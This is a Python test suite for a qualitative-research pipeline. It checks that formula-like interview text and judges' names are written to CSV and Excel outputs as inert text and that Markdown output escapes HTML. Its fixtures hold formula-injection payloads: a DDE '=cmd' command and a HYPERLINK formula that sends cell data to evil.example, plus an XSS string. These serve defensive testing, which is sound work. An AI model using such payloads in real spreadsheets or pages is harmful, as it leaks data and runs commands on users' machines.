"""Spreadsheet safety: text is data in every workbook and CSV Consensa writes.

A participant turn, a judge's theme name or a code name that begins with "=", "+",
"-" or "@" goes through run -> review export -> import -> apply -> precode (and
compare): every .xlsx cell holding it is a string cell and no cell anywhere is a
formula; every CSV cell that would start a formula carries a leading "'"; the exact
text stays exact in segments.parquet, the review store and codebook.yaml, and
Consensa reads its own CSVs back to the exact text. Control characters (form feed,
vertical tab, escape) are normalised at ingest, counted, and never reach a writer.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from pipeline import sheets
from pipeline.cli import main
from pipeline.config import validate_config
from pipeline.exchange.refi import codebook_from_table
from pipeline.review.model import load_run
from pipeline.review.store import ReviewStore
from pipeline.review.workbook import build_workbook
from pipeline.run import run
from pipeline.runfolder import RunFolder, read_raw_csv
from pipeline.stages.ingest import IngestConfig, ingest
from tests.compare_helpers import topic_rows, write_csv
from tests.study import study_config, write_study

#: participant turns that a spreadsheet would run as formulas, by their first characters
HOSTILE = {
    "=HYPERLINK": '=HYPERLINK("http://x?d="&E2&E3,"x") is what I typed into my notes that week.',
    "=cmd": "=cmd|' /C calc'!A0 and then nothing happened in the session after that.",
    "+1+1": "+1+1 was how my supervisor scored the tears in the session.",
    "-2+3": "-2+3 sessions later the client came back and thanked me for crying.",
    "@SUM": "@SUM(A1) is a joke my colleague made about counting the tears.",
}
#: a turn too short to be a segment: it reaches skipped.csv, which a judge opens too
HOSTILE_SHORT = "=SUM(A1) sure."
CONTROL = "I felt\x0cstuck\x0band then\x1b[31m lost with my supervisor in the session."
CONTROL_CLEAN = "I felt stuck and then[31m lost with my supervisor in the session."
NAME = '=HYPERLINK("http://evil.example/?q="&A1,"Support")'   # a judge's theme name
#: a judge's name that Markdown would render as HTML, emphasis and a link
MARKUP = "<img src=x onerror=alert(1)> *loud* [x](javascript:alert(1))"
MARKUP_SHOWN = r"&lt;img src=x onerror=alert(1)&gt; \*loud\* \[x\](javascript:alert(1))"
TRIGGER = re.compile(r"\s*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def hostile_case(folder: Path, name: str = "case07") -> Path:
    lines = ["Interviewer: Tell me about it.", ""]
    for text in (*HOSTILE.values(), CONTROL, HOSTILE_SHORT):
        lines += [f"Therapist: {text}", "", "Interviewer: Mm-hmm.", ""]
    path = folder / f"{name}.txt"
    path.write_text("\n".join(lines), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    study = write_study(root / "study")
    hostile_case(study)
    return run(validate_config(study_config(study)), study, root / "run")


@pytest.fixture()
def run_copy(hostile_run, tmp_path) -> Path:
    return Path(shutil.copytree(hostile_run, tmp_path / "run"))


# --- checks ----------------------------------------------------------------------------

def csv_cells(folder: Path):
    """(file, cell) for every cell of every CSV under ``folder``."""
    for path in sorted(folder.rglob("*.csv")):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")):
            for cell in row:
                yield path, cell


def assert_csvs_safe(folder: Path) -> list[str]:
    """No CSV cell would start a formula; returns every cell (to look for the quotes)."""
    cells = []
    for path, cell in csv_cells(folder):
        assert not (TRIGGER.match(cell) and not NUMBER.fullmatch(cell)), (path.name, cell)
        cells.append(cell)
    assert cells, f"no CSV under {folder}"
    return cells


def assert_xlsx_safe(path: Path) -> list:
    """No cell of any sheet is a formula (neither as openpyxl reads it nor in the XML);
    every str cell is a string cell. Returns the cells."""
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, (path.name, name)
    cells = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (path.name, ws.title, cell.coordinate)
                cells.append(cell)
    return cells


def enter(path: Path, sheet: str, ident, **values) -> None:
    """Type ``values`` (header -> value, '_' for ' ') into the row of ``ident`` as a judge
    does in Excel: text typed with a leading apostrophe is stored as a string cell."""
    wb = openpyxl.load_workbook(path)
    ws = wb[sheet]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if str(row[0].value) == str(ident):
            for key, value in values.items():
                cell = row[header.index(key.replace("_", " "))]
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"
            wb.save(path)
            return
    raise KeyError(f"{ident} not on sheet {sheet}")


def segment_of(run_folder: Path, text: str) -> pd.Series:
    seg = pd.read_parquet(run_folder / "segments.parquet")
    hit = seg[seg["text"] == text]
    assert len(hit) == 1, text
    return hit.iloc[0]


# --- the helpers themselves --------------------------------------------------------------

@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r 1.eE0aZ\n\u3000\uff1d\uff0d"), max_size=8)
       | st.text())
def test_neutralise_is_undone_exactly(text):
    out = sheets.neutralise(text)
    assert sheets.restore(out) == text
    assert not (TRIGGER.match(out) and not NUMBER.fullmatch(out))


def test_neutralise_quotes_formulas_and_leaves_numbers():
    for text in HOSTILE.values():
        assert sheets.neutralise(text) == "'" + text
    for text in ("\tx", "\r=1", "=", "-", "'=1"):
        assert sheets.neutralise(text) == "'" + text
    for text in ("-1", "+3", "2.5", "-0.5e-3", "'cause I was", "plain", ""):
        assert sheets.neutralise(text) == text
    df = pd.DataFrame({"text": ["=1+1", "-1", "ok"], "theme": [-1, 2, 3],
                       "strength": [-0.5, 0.25, float("nan")]})
    out = sheets.to_csv(df, index=False)
    assert out.splitlines() == ["\ufefftext,theme,strength", "'=1+1,-1,-0.5", "-1,2,0.25",
                                "ok,3,"]
    back = sheets.restore_frame(pd.read_csv(io.StringIO(out)))
    assert back["text"].tolist() == ["=1+1", "-1", "ok"]
    assert back["theme"].tolist() == [-1, 2, 3]
    # an index and column names are text too (compare's contingency tables)
    table = pd.DataFrame([[1]], index=pd.Index(["=A"], name="@code"), columns=["+theme"])
    assert sheets.to_csv(table).splitlines() == ["\ufeff'@code,'+theme", "'=A,1"]


def test_a_formula_after_white_space_or_in_full_width_is_quoted_too():
    """A spreadsheet trims the white space before " =HYPERLINK(...)" on import, and an
    East Asian input method types "＝" for "=": both cells were written as they were."""
    for text in (' =HYPERLINK("http://x?d="&A1)', "\u00a0+1+1", "\n-2+3", "\u3000@SUM(A1)",
                 "＝HYPERLINK(\"http://x\")", "＋1", "－2+3", "＠SUM(A1)", " ＝1"):
        assert sheets.neutralise(text) == "'" + text
        assert sheets.restore(sheets.neutralise(text)) == text
    df = pd.DataFrame({"text": [" =1+1", "＝1+1", " plain"]})
    out = sheets.to_csv(df, index=False)
    assert out.splitlines() == ["\ufefftext", "' =1+1", "'＝1+1", " plain"]
    assert sheets.restore_frame(pd.read_csv(io.StringIO(out)))["text"].tolist() == \
        [" =1+1", "＝1+1", " plain"]
    wb = openpyxl.Workbook()
    row = sheets.append_row(wb.active, [" =1+1", "＝1+1", " plain"])
    assert [c.quotePrefix for c in wb.active[row]] == [True, True, False]


def test_a_carriage_return_in_a_cell_never_splits_its_row(tmp_path):
    """Neither pandas nor Python's csv module quotes a field for a lone "\r", and every
    reader ends the row there: a transcript with old Mac line endings gave a
    segments.csv of 16 rows for 8 segments, the rest of a cell a row of its own whose
    first cell was a formula ("=cmd|' /C calc'!A0") with no leading quote."""
    df = pd.DataFrame({"segment_id": ["a:1:0", "a:2:0"], "n": [1, 2],
                       "text": ["My training never mentioned it\r=cmd|' /C calc'!A0", "Fine."]})
    path = tmp_path / "segments.csv"
    sheets.to_csv(df, path, index=False)
    rows = list(csv.reader(path.open(newline="", encoding="utf-8-sig")))
    assert len(rows) == 3 and not any(c.startswith("=") for r in rows for c in r)
    back = pd.read_csv(path)
    assert back["n"].tolist() == [1, 2] and back["text"].iat[0] == df["text"].iat[0]
    assert read_raw_csv(path)["text"].tolist() == df["text"].tolist()
    # a table without one is written as before, quoting only where it must
    plain = sheets.to_csv(df.assign(text=["a, b", "c"]), index=False)
    assert plain.splitlines()[1] == 'a:1:0,1,"a, b"'
    # and the de-identification mapping too (written with Python's csv module)
    from pipeline.stages.deidentify import CaseResult, Deidentified, Replacement

    case = CaseResult("a", "", "", [Replacement(0, 4, "PERSON", "Ann\r=cmd", "PERSON_1")])
    mapping = Deidentified(None, {"a": case}, {}, {}, None, None, 0, {}).mapping_csv()
    rows = list(csv.reader(io.StringIO(mapping, newline="")))
    assert len(rows) == 2 and rows[1][3] == "Ann\r=cmd"


def test_cells_are_strings_and_illegal_characters_never_raise():
    wb = openpyxl.Workbook()
    ws = wb.active
    row = sheets.append_row(ws, [*HOSTILE.values(), "a\x0cb\x0bc\x1bd\x00e", 3, -2.5,
                                 float("nan"), None])
    cells = ws[row]
    assert [c.value for c in cells[:5]] == list(HOSTILE.values())
    assert all(c.data_type == "s" and c.quotePrefix for c in cells[:5])
    assert cells[5].value == "a b cde" and not ILLEGAL_CHARACTERS_RE.search(cells[5].value)
    assert [c.value for c in cells[6:]] == [3, -2.5, None, None]
    sheets.set_cell(ws["A5"], "=WEBSERVICE(\"http://x\")")
    assert ws["A5"].data_type == "s"
    buf = io.BytesIO()
    wb.save(buf)
    back = openpyxl.load_workbook(buf)
    assert back.active["A5"].value == "=WEBSERVICE(\"http://x\")"
    assert back.active["A5"].data_type == "s"


def test_text_longer_than_a_cell_holds_is_cut_where_the_cell_says_so():
    """A cell holds 32,767 characters and openpyxl cuts longer text without a word:
    900 long case ids ended half-way through the 727th. The cell now says it was cut
    and how much is left out; a list is cut after a whole item."""
    wb = openpyxl.Workbook()
    ws = wb.active
    ids = [f"participant_{i:04d}_interview_2024-03-12_final" for i in range(900)]
    long_text = "word " * 10_000
    row = sheets.append_row(ws, [ids, long_text, "short"])
    buf = io.BytesIO()
    wb.save(buf)
    back = [c.value for c in openpyxl.load_workbook(buf).active[row]]
    assert all(len(v) <= sheets.CELL_LIMIT for v in back)
    listed, _, rest = back[0].partition(" … and ")
    assert listed.split("; ") == ids[:len(listed.split("; "))]       # whole items only
    assert rest.startswith(f"{900 - len(listed.split('; ')):,} more")
    kept, _, note = back[1].partition(" … [cut: ")
    assert long_text.startswith(kept)
    assert note.startswith(f"{len(long_text) - len(kept):,} more characters")
    assert back[2] == "short"


# --- ingest: control characters ---------------------------------------------------------

def test_control_characters_are_normalised_at_ingest_in_every_format(tmp_path):
    folder = tmp_path / "t"
    folder.mkdir()
    (folder / "a.txt").write_text(f"\x0cInterviewer: Hi.\n\nP1: {CONTROL}\n", encoding="utf-8")
    (folder / "b.csv").write_text(f'case_id,speaker,text\nb,I,Hi.\nb,P1,"{CONTROL}"\n',
                                  encoding="utf-8")
    book = openpyxl.Workbook()
    book.active.append(["case_id", "speaker", "text"])
    book.active.append(["c", "I", "Hi."])
    # XML keeps C0 characters out of an .xlsx, but DEL and the C1 range get in
    book.active.append(["c", "P1", "I felt stuck\x7f and then\x9b[31m lost with my "
                                   "supervisor in the session."])
    book.save(folder / "c.xlsx")
    corpus = ingest(IngestConfig(paths=[folder]))
    turns = corpus.turns
    for t in turns.itertuples():
        assert t.text == corpus.sources[t.case_id].text[t.start_char:t.end_char]
        assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]", t.text)
    said = dict(zip(turns["case_id"], turns["text"]))      # the last turn of each case
    assert said["a"] == said["b"] == said["c"] == CONTROL_CLEAN
    assert not any(re.search(r"[\x0b\x0c\x1b\x7f\x9b]", s.text) for s in corpus.sources.values())
    assert corpus.counts["control_characters_replaced"] == 1 + 2 + 2        # a, b, c
    assert corpus.counts["control_characters_removed"] == 1 + 1 + 2
    assert corpus.sources["a"].text.startswith(" Interviewer: Hi.")   # the label still read
    notes = [s for s in corpus.skipped if "control character" in s.reason]
    assert {Path(s.what).name for s in notes} == {"a.txt", "b.csv", "c.xlsx"}
    assert all("check the" in s.reason for s in notes)


# --- run -> CSVs, parquet ---------------------------------------------------------------

def test_run_keeps_the_exact_text_and_neutralises_every_csv(hostile_run):
    seg = pd.read_parquet(hostile_run / "segments.parquet")
    for text in HOSTILE.values():
        assert (seg["text"] == text).sum() == 1                   # exact in parquet
    assert (seg["text"] == CONTROL_CLEAN).sum() == 1
    cells = assert_csvs_safe(hostile_run)
    for text in (*HOSTILE.values(), HOSTILE_SHORT):
        assert "'" + text in cells and text not in cells
    left = read_raw_csv(hostile_run / "skipped.csv")         # read back to the exact text
    assert HOSTILE_SHORT in left["text"].tolist()
    # Consensa reads its CSVs back to the exact text
    raw = read_raw_csv(hostile_run / "segments.csv")
    assert raw["text"].tolist() == seg["text"].tolist()
    assert raw["segment_id"].tolist() == seg["segment_id"].tolist()
    manifest = json.loads((hostile_run / "manifest.json").read_text())
    assert manifest["counts"]["control_characters_replaced"] == 2
    assert manifest["counts"]["control_characters_removed"] == 1
    assert any("case07.txt" in s["what"] and "control character" in s["reason"]
               for s in manifest["skipped"])


def test_themes_csv_round_trip_through_add_theme_column(run_copy):
    folder = RunFolder(run_copy)
    themes = folder.themes()
    themes.loc[0, "name"] = NAME
    themes.loc[1, "core_idea"] = HOSTILE["-2+3"]
    folder.write_table("themes", themes)
    before = list(csv.reader(io.StringIO((run_copy / "themes.csv").read_text())))
    folder.add_theme_column("stability", {0: "stable"}, default="unstable")
    assert folder.themes()["stability"].tolist()[:2] == ["stable", "unstable"]  # typed, too
    after = list(csv.reader(io.StringIO((run_copy / "themes.csv").read_text())))
    assert [r[:-1] for r in after] == before                    # every other cell as it was
    assert after[1][1] == "'" + NAME
    back = read_raw_csv(run_copy / "themes.csv")
    assert back.loc[0, "name"] == NAME and back.loc[1, "core_idea"] == HOSTILE["-2+3"]
    assert back["theme_id"].astype(int).tolist() == themes["theme_id"].tolist()
    assert_csvs_safe(run_copy)
    # the REFI-QDA codebook and the codes' run reader get the exact name too
    from pipeline.exchange.codes import load_run as load_for_codes

    assert NAME in {c.name for p in codebook_from_table(run_copy / "themes.csv")
                    for c in [p, *p.children]}
    assert load_for_codes(run_copy, sources=False).themes.loc[0, "name"] == NAME


def test_review_reads_the_exact_theme_text(run_copy):
    themes = RunFolder(run_copy).themes()
    themes.loc[0, "name"] = NAME
    themes.loc[0, "core_idea"] = HOSTILE["-2+3"]
    RunFolder(run_copy).write_table("themes", themes)
    items = load_run(run_copy)
    assert items.themes.loc[0, "name"] == NAME
    assert items.themes.loc[0, "core_idea"] == HOSTILE["-2+3"]


# --- review: export, import, consensus, apply, precode -----------------------------------

def test_review_export_writes_text_never_formulas(run_copy):
    assert main(["review", "export", str(run_copy), "--judges", "ana,ben,caro",
                 "--auditor", "dee"]) == 0
    books = sorted((run_copy / "review" / "round-1").glob("*.xlsx"))
    assert len(books) == 4
    for path in books:
        cells = assert_xlsx_safe(path)
        values = {c.value for c in cells}
        for text in HOSTILE.values():
            assert text in values                               # the exact text, as text
        assert CONTROL_CLEAN in values
    # the unassigned sheet: a hostile segment that no theme took
    items = load_run(run_copy)
    seg = items.segments
    seg.loc[seg["text"] == HOSTILE["=cmd"], ["theme", "theme_name"]] = [-1, ""]
    path = run_copy / "unassigned.xlsx"
    path.write_bytes(build_workbook(items, "ana", "judge", 1))
    assert_xlsx_safe(path)
    ws = openpyxl.load_workbook(path)["unassigned"]
    texts = [r[4] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert texts == [HOSTILE["=cmd"]]


def test_a_prefilled_round_2_workbook_keeps_a_formula_like_name_as_text(run_copy):
    """Round 2's workbooks are prefilled with round 1's consensus, and a hidden sheet
    (``_exported``) keeps what each row was written with: a judges' name that reads as
    a formula is a string cell in both."""
    from pipeline.review.model import Decision

    items = load_run(run_copy)
    with ReviewStore(items, create=True) as store:
        store.resolve([Decision("theme:0", "rename", new_name=NAME)]
                      + [Decision(i, "accept") for i in items.items() if i != "theme:0"],
                      by="ana")
    assert main(["review", "next-round", str(run_copy), "--by", "ana"]) == 0
    assert main(["review", "export", str(run_copy), "--judges", "ana,ben"]) == 0
    book = run_copy / "review" / "round-2" / "ana.xlsx"
    cells = assert_xlsx_safe(book)
    assert NAME in {c.value for c in cells}
    exported = openpyxl.load_workbook(book)["_exported"]
    kept = {r[0]: json.loads(r[1]) for r in exported.iter_rows(min_row=2, values_only=True)}
    assert kept["theme:0"]["new_name"] == NAME


def test_review_round_trip_keeps_hostile_names_exact(run_copy, capsys, tmp_path):
    run_folder = run_copy
    assert main(["review", "export", str(run_folder), "--judges", "ana,ben"]) == 0
    rdir = run_folder / "review" / "round-1"
    items = load_run(run_folder)
    mover = segment_of(run_folder, HOSTILE["@SUM"])
    target = next(t for t in items.themes["theme_id"] if t != mover["theme"])
    comment = "-2+3 =cmd|' /C calc'!A0"
    for judge in ("ana", "ben"):
        wb = rdir / f"{judge}.xlsx"
        for d in items.domains["domain_id"]:
            enter(wb, "domains", d, decision="accept")
        for t in items.themes["theme_id"]:
            if t == 0:
                enter(wb, "themes", t, decision="rename", new_name=NAME, comment=comment)
            else:
                enter(wb, "themes", t, decision="accept")
        enter(wb, "segments", mover["segment_id"], move_to_theme=int(target),
              comment="@SUM(A1) belongs elsewhere")
    assert main(["review", "import", str(run_folder), str(rdir / "ana.xlsx"),
                 str(rdir / "ben.xlsx")]) == 0
    with ReviewStore(load_run(run_folder)) as store:
        pos = store.positions()
    for judge in ("ana", "ben"):
        assert pos["theme:0"][judge].new_name == NAME
        assert pos["theme:0"][judge].comment == comment
        assert pos[f"segment:{mover['segment_id']}"][judge].comment == "@SUM(A1) belongs elsewhere"
    capsys.readouterr()
    assert main(["review", "status", str(run_folder)]) == 0
    assert "Every item of round 1 has a consensus decision" in capsys.readouterr().out

    # the consensus workbook holds the judges' name as text, and so does a name typed into it
    assert main(["review", "export", str(run_folder), "--consensus"]) == 0
    consensus = rdir / "consensus.xlsx"
    cells = assert_xlsx_safe(consensus)
    assert NAME in {c.value for c in cells}
    ws = openpyxl.load_workbook(consensus)["themes"]
    header = [c.value for c in ws[1]]
    row0 = next(r for r in ws.iter_rows(min_row=2) if r[0].value == 0)
    assert row0[header.index("new name")].value == NAME
    assert row0[header.index("new name")].data_type == "s"
    other = int(target)
    enter(consensus, "themes", other, decision="rename", new_name="+1+1 support")
    third = next(int(t) for t in items.themes["theme_id"] if int(t) not in (0, other))
    enter(consensus, "themes", third, decision="rename", new_name=MARKUP)
    assert main(["review", "import", str(run_folder), str(consensus), "--consensus",
                 "--by", "ana"]) == 0
    assert main(["review", "apply", str(run_folder)]) == 0
    # the Markdown files show a name as text: no raw HTML, no emphasis, no link
    for md in ("codebook.md", "cqr_table.md"):
        text = (run_folder / "review" / md).read_text(encoding="utf-8")
        assert MARKUP_SHOWN in text and "<img" not in text and "[x](java" not in text, md
    cb = yaml.safe_load((run_folder / "review" / "codebook.yaml").read_text())
    names = {c["name"] for d in cb["domains"] for c in d["categories"]}
    assert {NAME, "+1+1 support"} <= names
    cells = assert_csvs_safe(run_folder / "review")
    assert "'" + NAME in cells and "'+1+1 support" in cells

    # precode: the codebook's assignments.csv is read back exactly; the queue is text
    new = tmp_path / "new"
    new.mkdir()
    hostile_case(new, "case21")
    write_study(tmp_path / "more", n_cases=2)
    for f in (tmp_path / "more").glob("*.txt"):
        shutil.copy(f, new / f"new-{f.name}")
    out = tmp_path / "pre"
    assert main(["precode", str(run_folder / "review" / "codebook.yaml"), "--transcripts",
                 str(new), "--threshold", "1.0", "--out", str(out)]) == 0
    pre = pd.read_parquet(out / "segments.parquet")
    assert pre["needs_human"].all()
    assert set(HOSTILE.values()) <= set(pre["text"])
    cells = assert_xlsx_safe(out / "queue.xlsx")
    values = {c.value for c in cells}
    assert set(HOSTILE.values()) <= values and CONTROL_CLEAN in values
    assert NAME in values                                  # the category list
    cells = assert_csvs_safe(out)
    assert "'" + HOSTILE["=cmd"] in cells


def test_a_formula_a_judge_types_is_refused_and_named_never_lost(run_copy, capsys):
    """A judge who types "=..." into a workbook makes a formula: read for its value it
    is blank (a file saved without computed values) or "#NAME?". The import names the
    sheet, row and column and stores nothing, so the entry is not lost unseen."""
    run_folder = run_copy
    assert main(["review", "export", str(run_folder), "--judges", "ana,ben"]) == 0
    path = run_folder / "review" / "round-1" / "ana.xlsx"
    items = load_run(run_folder)
    themes = [int(t) for t in items.themes["theme_id"]]
    for t in themes:
        enter(path, "themes", t, decision="accept")
    wb = openpyxl.load_workbook(path)
    ws = wb["themes"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == themes[0])
    row[header.index("decision")].value = "rename"
    row[header.index("new name")].value = '="Grief for "&"her mother"'     # typed, not quoted
    row[header.index("comment")].value = "=HYPERLINK(\"http://x\",\"see\")"
    assert row[header.index("new name")].data_type == "f"
    wb.save(path)
    capsys.readouterr()
    assert main(["review", "import", str(run_folder), str(path)]) == 2
    err = capsys.readouterr().err
    r = row[0].row
    assert f"sheet 'themes', row {r}, column 'new name': the cell holds a formula" in err
    assert f"sheet 'themes', row {r}, column 'comment': the cell holds a formula" in err
    assert "type the text itself" in err and "Traceback" not in err
    with ReviewStore(load_run(run_folder)) as store:
        assert store.positions() == {}

    # typed as text (Excel's leading apostrophe), the same entry is read exactly
    enter(path, "themes", themes[0], decision="rename", new_name='="Grief"', comment="fine")
    assert main(["review", "import", str(run_folder), str(path)]) == 0
    with ReviewStore(load_run(run_folder)) as store:
        assert store.positions()[f"theme:{themes[0]}"]["ana"].new_name == '="Grief"'


# --- compare: code names and quotes -------------------------------------------------------

def test_compare_outputs_keep_code_names_as_text(hostile_run, tmp_path):
    study = Path(json.loads((hostile_run / "manifest.json").read_text())["base_dir"])
    codes = {"training": "=HYPERLINK(\"http://x\") > @SUM(A1)",
             "supervision": "+1+1 > -2+3", "client": "=cmd|' /C calc'!A0 > x"}
    rows = topic_rows(study, code_of=lambda topic, k, case: codes[topic])
    path = write_csv(tmp_path / "codes.csv", rows)
    out = tmp_path / "compare"
    assert main(["compare", str(hostile_run), str(path), "--out", str(out)]) == 0
    cells = assert_csvs_safe(out)
    assert "'" + HOSTILE["=HYPERLINK"] in cells              # the run's segments
    assert any(c.startswith("'=HYPERLINK(\"http://x\")") for c in cells)
    assert any(c.startswith("'+1+1") for c in cells)
    assert_xlsx_safe(out / "disagreements.xlsx")


def test_csvs_begin_with_a_byte_order_mark_and_consensa_reads_them_back(tmp_path):
    """Excel on Windows reads a CSV without a byte-order mark in the system's code page:
    "it’s" came out as "itâ€™s" and "é" as "Ã©". Every CSV Consensa writes begins with
    one (a file, a text buffer, the text returned), and Consensa's own readers read past
    it: the first column keeps its name."""
    from pipeline.exchange.read import read_codes
    from pipeline.runfolder import raw_to_csv, read_csv_table

    df = pd.DataFrame({"theme_id": [0, 1], "name": ["It’s the café", "=Grief"],
                       "keywords": [["tears", "été"], []], "domain_id": [0, 0]})
    path = tmp_path / "themes.csv"
    sheets.to_csv(df, path, index=False)
    assert path.read_bytes().startswith(b"\xef\xbb\xbftheme_id,")
    assert sheets.to_csv(df, index=False).startswith("\ufefftheme_id,")
    assert raw_to_csv(df).startswith("\ufefftheme_id,")
    assert "It’s the café" in path.read_bytes().decode("utf-8-sig")
    back = read_csv_table(path, "themes")
    assert list(back.columns) == list(df.columns) and back["theme_id"].tolist() == [0, 1]
    assert back["name"].tolist() == df["name"].tolist()
    assert back["keywords"].tolist() == [["tears", "été"], []]
    assert list(read_raw_csv(path).columns)[0] == "theme_id"
    assert [c.name for c in codebook_from_table(path)[0].children] == ["It’s the café",
                                                                        "=Grief"]
    # a table of codes saved by Consensa (or Excel's "CSV UTF-8", which writes the mark)
    codes = tmp_path / "codes.csv"
    sheets.to_csv(pd.DataFrame({"case_id": ["c1"], "code": ["Café > Été"], "start": [0],
                                "end": [4]}), codes, index=False)
    read = read_codes(codes)
    assert read.info["columns"]["case"] == "case_id" and read.coders == []
    assert read.codings["code"].tolist() == ["Café > Été"]
